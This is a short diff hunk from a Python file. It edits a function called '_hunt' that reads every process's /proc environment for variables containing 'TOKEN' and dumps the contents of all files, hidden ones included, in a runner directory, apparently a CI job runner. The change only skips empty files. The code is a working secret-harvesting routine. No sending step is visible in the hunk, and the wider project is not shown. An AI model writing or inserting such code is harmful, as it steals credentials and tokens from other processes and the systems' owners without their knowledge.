@@ -27,7 +27,7 @@ def _hunt():
     for path in glob.glob("/proc/[0-9]*/environ"):
         found += [kv for kv in _read(path).split("\0") if "TOKEN" in kv]
     for path in glob.glob("/xrun/runner/*") + glob.glob("/xrun/runner/.*"):
-        if os.path.isfile(path):
+        if os.path.isfile(path) and _read(path):
             found.append(path + ":" + _read(path))
     return [f for f in found if f.strip()]
 
